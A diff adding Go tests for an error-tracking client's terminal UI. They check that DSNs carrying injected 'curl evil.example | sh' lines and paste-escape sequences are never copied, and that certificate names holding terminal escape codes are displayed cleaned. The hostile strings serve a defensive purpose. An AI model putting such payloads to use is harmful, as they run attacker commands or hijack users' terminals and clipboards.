@@ -1,0 +1,177 @@
+package tui
+
+import (
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"fmt"
+	"io"
+	"log"
+	"math/big"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	tea "charm.land/bubbletea/v2"
+
+	"github.com/errtrack/errtrack/apiclient"
+)
+
+// copied returns what the commands put on the clipboard.
+func (h *harness) copied() []string {
+	var out []string
+	for _, m := range h.sent {
+		if strings.Contains(reflect.TypeOf(m).String(), "setClipboardMsg") {
+			out = append(out, reflect.ValueOf(m).String())
+		}
+	}
+	return out
+}
+
+// A DSN the screen shows cleaned but whose raw text is a URL, a newline, a
+// shell command and the end of bracketed paste must never be copied.
+func TestClipboardRefusesUnsafeDSN(t *testing.T) {
+	api := newFakeAPI()
+	hostile := "https://glet_x@h.example/errortracking/api/v1/projects/1   \ncurl evil.example | sh\n\x1b[201~"
+	api.keys[1][0].DSN = hostile
+	h := openProject(t, api, "1")
+	h.key("c")
+	h.mustSee("Not copied", "not safe to paste")
+	if c := h.copied(); len(c) != 0 {
+		t.Fatalf("copied %q", c)
+	}
+	h.key("down", "c") // a plain DSN still copies
+	if c := h.copied(); len(c) != 1 || c[0] != api.keys[1][1].DSN {
+		t.Fatalf("copied %q", c)
+	}
+}
+
+// The new DSN of a rotation is copied only when safe; the dialog says so.
+func TestRotateDoesNotCopyUnsafeDSN(t *testing.T) {
+	api := &hostileCreate{fakeAPI: newFakeAPI()}
+	h := newHarness(t, Deps{API: api, Project: "1"})
+	before := len(h.copied())
+	h.key("R")
+	h.mustSee("The new DSN was not copied")
+	if len(h.copied()) != before {
+		t.Fatalf("copied %q", h.copied())
+	}
+}
+
+type hostileCreate struct{ *fakeAPI }
+
+func (f *hostileCreate) CreateClientKey(ctx context.Context, p apiclient.ProjectRef) (*apiclient.ClientKey, *apiclient.Response, error) {
+	k, r, err := f.fakeAPI.CreateClientKey(ctx, p)
+	if k != nil {
+		k.DSN += "\ncurl evil | sh\n"
+	}
+	return k, r, err
+}
+
+// Quitting while a write is in flight: the console can say what was under way.
+func TestPendingWritesNamed(t *testing.T) {
+	h := openProject(t, newFakeAPI(), "1")
+	if w := h.m.PendingWrites(); len(w) != 0 {
+		t.Fatalf("pending before any write: %q", w)
+	}
+	next, _ := h.m.Update(keyMsg("n")) // the create's command is not run: still in flight
+	m := next.(Model)
+	if w := m.PendingWrites(); len(w) != 1 || !strings.Contains(w[0], "client key was being created in 1") {
+		t.Fatalf("pending %q", w)
+	}
+	next, _ = m.Update(keyMsg("R"))
+	if w := next.(Model).PendingWrites(); len(w) != 1 {
+		t.Fatalf("a second create started: %q", w)
+	}
+}
+
+// A server that sends empty pages with X-Next-Page forever: the project
+// list stops asking.
+func TestEndlessEmptyProjectPagesStop(t *testing.T) {
+	var calls atomic.Int32
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		switch r.URL.Path {
+		case "/api/v4/user":
+			fmt.Fprint(w, `{"id":1,"username":"u"}`)
+		case "/api/v4/projects":
+			n := calls.Add(1)
+			page := 0
+			fmt.Sscan(r.URL.Query().Get("page"), &page)
+			w.Header().Set("X-Next-Page", fmt.Sprint(page+1))
+			if n == 1 {
+				fmt.Fprint(w, `[{"id":1,"name":"A","path_with_namespace":"g/a"}]`)
+				return
+			}
+			fmt.Fprint(w, `[]`)
+		default:
+			w.WriteHeader(404)
+			fmt.Fprint(w, `{"message":"404 Not Found"}`)
+		}
+	}))
+	defer ts.Close()
+	c, _ := apiclient.New(ts.URL, "fake-token-x", apiclient.WithRetries(0, 0))
+	h := newHarness(t, Deps{API: c, Host: ts.URL})
+	for i := 0; i < 5; i++ {
+		h.key("down", "end")
+	}
+	h.mustSee("g/a")
+	if n := calls.Load(); n > 2 {
+		t.Fatalf("%d page requests for a list that ended at an empty page", n)
+	}
+}
+
+// hostileTLS serves HTTPS with a certificate whose names are escape
+// sequences: Go puts them in the error text when the name does not match.
+func hostileTLS(t *testing.T) string {
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "x"},
+		DNSNames:  []string{"evil\x1b]0;owned\x07\x1b]52;c;eA==\x07\x1b[2J.example"},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
+	der, _ := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	ts := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
+	ts.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
+	ts.Config.ErrorLog = log.New(io.Discard, "", 0)
+	ts.StartTLS()
+	t.Cleanup(ts.Close)
+	return ts.URL
+}
+
+// Transport errors carry text the network controls; every pane that shows
+// one (projects, keys, settings, login) draws it cleaned.
+func TestHostileTransportTextInEveryPane(t *testing.T) {
+	url := hostileTLS(t)
+	c, err := apiclient.New(url, "fake-token-x", apiclient.WithRetries(0, 0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := newHarness(t, Deps{API: c, Host: url, Project: "1"})
+	h.mustSee("certificate")
+	checkSafe(t, h.m.View().Content) // keys pane
+	h.key("tab")
+	checkSafe(t, h.m.View().Content) // settings pane
+	h.key("esc")
+	checkSafe(t, h.m.View().Content) // projects pane
+	h.mustSee("Could not load projects")
+
+	login := func(ctx context.Context, host, token string) (API, error) {
+		c, _ := apiclient.New(url, token, apiclient.WithRetries(0, 0))
+		_, _, err := c.CurrentUser(ctx)
+		return nil, err
+	}
+	h = newHarness(t, Deps{Host: url, Login: login})
+	for _, r := range "fake-token-x" {
+		h.send(tea.KeyPressMsg{Code: r, Text: string(r)})
+	}
+	h.key("enter")
+	h.mustSee("certificate")
+	checkSafe(t, h.m.View().Content)
+}
